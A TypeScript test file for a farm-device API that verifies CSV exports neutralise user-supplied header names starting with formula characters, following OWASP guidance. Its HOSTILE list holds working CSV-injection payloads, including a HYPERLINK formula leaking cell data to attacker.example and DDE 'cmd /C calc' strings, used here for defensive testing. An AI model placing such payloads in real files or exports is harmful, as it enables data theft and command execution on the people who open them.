/**
 * CSV formula injection. Factor names are typed by users and become the export's header cells;
 * a spreadsheet program runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula. Per OWASP's
 * CSV-injection guidance every such text cell must reach the file neutralised (prefixed with a single quote, quoted),
 * while the measured values stay numbers (a temperature of -3.5 must remain a number).
 */
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DeviceRecord, FactorRecord } from '#src/db/types.js';
import { createExport, downloadUrl, settledTasks, yesterday } from '#src/testing/exports.js';
import { login, testApp, type Session } from '#src/testing/helpers.js';

let app: FastifyInstance;
let demo: Session;
let device: DeviceRecord;
let factors: FactorRecord[];

const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** Splits one CSV line into its cells (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cur += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      out.push(cur);
      cur = '';
    } else {
      cur += c;
    }
  }
  out.push(cur);
  return out;
}

beforeAll(async () => {
  app = await testApp();
  demo = await login(app, 'demo');
  const farm = app.repos.organizations.bySlug('demo-farm')!;
  device = app.repos.devices
    .ofOrganization(farm.id)
    .find(
      (d) =>
        d.project_id &&
        app.repos.factors.ofDevice(d.id).filter((f) => f.the_type >= 1000).length >= 2,
    )!;
  factors = app.repos.factors.ofDevice(device.id).filter((f) => f.the_type >= 1000);
});
afterAll(() => app.close());

describe('CSV formula injection', () => {
  it('neutralises every header cell a user named with a formula character, keeping values numeric', async () => {
    const named = HOSTILE.map((name, i) => ({ name, factor: factors[i % factors.length]! }));
    // One export per hostile name (a device has fewer factors than there are names).
    for (const { name, factor } of named) {
      const res = await app.inject({
        method: 'PATCH',
        url: `/api/v2/projects/${device.project_id}/devices/${device.id}/factors/${factor.id}/`,
        headers: demo.headers('demo-farm'),
        payload: { name },
      });
      expect(res.statusCode, res.body).toBe(200);
      const created = await createExport(app, demo, 'demo-farm', device.project_id!, {
        device_id: device.id,
        factors: [factor.id],
        ...yesterday(),
      });
      expect(created.statusCode, created.body).toBe(201);
      const task = (created.json() as { data: { id: number } }).data;
      const done = (await settledTasks(app, demo, 'demo-farm', device.project_id!)).find(
        (t) => t.id === task.id,
      );
      expect(done?.status, done?.error_msg ?? '').toBe('completed');
      const url = await downloadUrl(app, demo, 'demo-farm', device.project_id!, task.id);
      const text = (await app.inject({ url })).rawPayload.toString('utf8').replace(/^\uFEFF/, '');
      const [header, ...rows] = text.split('\r\n').filter(Boolean);
      const column = cells(header!)[1]!;
      expect(column, `header for ${JSON.stringify(name)}`).toMatch(/^'/);
      const stored = app.repos.factors.byId(factor.id)!.name;
      expect(column.slice(1).startsWith(stored), 'the name itself is kept after the quote').toBe(
        true,
      );
      for (const row of rows.slice(0, 50)) {
        const value = cells(row)[1]!;
        if (value !== '') expect(value).toMatch(/^-?\d+(\.\d+)?$/);
      }
    }
  });
});
